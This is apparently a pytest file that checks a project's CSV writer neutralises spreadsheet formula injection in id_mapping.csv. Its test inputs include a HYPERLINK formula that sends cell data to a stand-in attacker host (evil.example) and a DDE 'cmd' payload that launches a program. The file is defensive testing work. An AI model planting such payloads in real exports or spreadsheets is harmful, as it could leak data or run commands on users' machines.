"""Cells a spreadsheet would run as formulas are neutralized in the CSV files bscore keeps
(issue 19, item 11: ``=HYPERLINK(...)`` was written verbatim into ``id_mapping.csv``)."""

import csv

import pytest

from bscore_assets.ingestion.file_ingest import load_mapping, mapping_path, save_mapping
from scoring.spreadsheet_cells import neutralize_cell, restore_cell


@pytest.mark.parametrize("text, written", [
    ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\tTAB", "'\tTAB"),
    ("\rCR", "'\rCR"),
    ("'quoted", "''quoted"),  # so that reading back is exact
    ("Flow Rate (l/min)", "Flow Rate (l/min)"),
    ("", ""),
])
def test_formula_leading_cells_get_a_quote_and_read_back_exactly(text, written):
    assert neutralize_cell(text) == written and restore_cell(written) == text


def test_id_mapping_csv_holds_no_formula_and_reads_back(tmp_path):
    name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    save_mapping(tmp_path, {name: "HYPERLINK_http_evil_example_A1_click", "pump 1": "pump_1"})

    with open(mapping_path(tmp_path), newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]

    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in cells)
    assert f"'{name}" in cells
    assert load_mapping(tmp_path) == {name: "HYPERLINK_http_evil_example_A1_click", "pump 1": "pump_1"}
